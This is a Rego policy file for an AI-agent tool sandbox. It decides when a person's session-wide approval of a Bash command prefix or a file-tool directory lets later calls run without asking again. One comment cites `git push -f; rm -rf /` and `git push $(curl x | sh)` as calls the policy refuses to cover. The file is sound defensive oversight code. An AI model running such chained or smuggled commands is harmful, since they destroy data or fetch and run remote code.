# Session grants (input.session.grants).
#
# When a person approves a call with approval scope "session", the daemon remembers what the
# approval covers for the rest of the session: for Bash a command prefix as words
# (`{"tool": "Bash", "pattern": "git push", "words": ["git", "push"]}`), for file tools a
# directory (`{"tool": "Edit", "pattern": "/srv/ws/src/", "words": []}`). A grant that covers a
# call lifts its asks as an approval would (authz.rego); it never lifts a deny.
package tooljail.authz

# The grants that cover this call. Grants that are not a list, or entries of the wrong shape,
# are ignored: a grant can only lift an ask, so ignoring one never lets more run.
covering_grants contains grant if {
	is_array(input.session.grants)
	some grant in input.session.grants
	grant_covers_call(grant)
	grant_covers_asks(grant)
}

# A grant covers the kinds of ask the person was shown when approving, not others a call of the
# same prefix raises: `git push --force origin main` approved for the session covers `git push
# -f origin topic` (the same ask, another command quoted in it), not `git push --delete`. A
# grant without its asks (an older daemon's) covers as before.
grant_covers_asks(grant) if not "reasons" in object.keys(grant)

grant_covers_asks(grant) if {
	is_array(grant.reasons)
	approved := {ask_kind(reason) | some reason in grant.reasons}
	every reason in needs_approval {
		ask_kind(reason) in approved
	}
}

# An ask without the command it quotes.
ask_kind(reason) := regex.replace(reason, "`[^`]*`", "`...`")

# Bash: the grant's words start every simple command of a fully parsed line, so `git push -f x`
# is covered by "git push" but `git push -f; rm -rf /` and `git push $(curl x | sh)` are not.
# The argv is compared as written: `/usr/bin/git push` or `./git push` is another program.
grant_covers_call(grant) if {
	bash_tool
	grant.tool == "Bash"
	command_parsed
	grant_words(grant.words)
	count(simple_commands) > 0
	every cmd in simple_commands {
		starts_with_words(cmd.argv, grant.words)
	}
}

# File tools: every path the call touches lies below the granted directory.
grant_covers_call(grant) if {
	not bash_tool
	is_string(input.tool.name)
	grant.tool == input.tool.name
	grant_directory(grant.pattern)
	is_array(input.paths)
	count(input.paths) > 0
	every touched in input.paths {
		is_string(touched.path)
		not regex.match(`(^|/)\.\.(/|$)`, touched.path)
		startswith(touched.path, grant.pattern)
	}
}

grant_words(words) if {
	is_array(words)
	count(words) > 0
	every word in words {
		is_string(word)
		word != ""
	}
}

starts_with_words(argv, words) if {
	count(argv) >= count(words)
	array.slice(argv, 0, count(words)) == words
}

# An absolute directory ending in `/`, without `..`, so `/srv/ws/src/` never covers `/srv/ws/src2`.
grant_directory(pattern) if {
	absolute(pattern)
	endswith(pattern, "/")
	not regex.match(`(^|/)\.\.(/|$)`, pattern)
}

grant_label(grant) := sprintf("`%s`", [concat(" ", grant.words)]) if {
	grant.tool == "Bash"
} else := sprintf("%s under %s", [grant.tool, grant.pattern])

# A covering grant lifts every ask of the call, as an approval would (authz.rego).
asks_lifted_by contains concat(" ", [
	sprintf("%s: the session grant for %s, which a person approved earlier in this session,", [
		tool_name,
		grant_label(grant),
	]),
	"covers this call, so it runs without asking again.",
]) if {
	some grant in covering_grants
}
